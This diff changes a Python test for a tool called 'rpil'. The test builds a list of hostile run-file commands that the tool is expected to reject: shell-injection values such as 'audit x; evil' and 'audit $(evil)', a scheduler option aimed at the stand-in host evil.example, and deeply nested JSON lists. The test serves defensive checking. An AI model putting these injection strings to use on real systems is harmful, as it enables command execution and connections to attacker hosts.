@@ -163,7 +163,7 @@ def command_in_a_run_file(folder: Path) -> Found:
     run = json.loads(Path("run.json").read_text())
     hostile = [f"audit x.csv --{name} a" for name in ("report", "save", "keep", "verdicts", "weights", "report=a")]
     hostile += ["audit x --scheduler tcp://evil.example:8786", "audit x --scheduler=tcp://evil.example:8786"]
-    hostile += ["evaluate x.py:f", "keep x -o x", "--install-completion bash", "audit x; evil", "audit $(evil)"]
+    hostile += ["evaluate x.py:f", "keep x -o x", "audit x; evil", "audit $(evil)"]
     runs = {words: json.dumps(run | {"command": f"rpil {words}"}) for words in hostile}
     runs["millions of lists"] = f'{json.dumps(run)[:-1]}, "more": [{"[]," * MOST_LISTS}[]]}}'
     for what, content in runs.items():
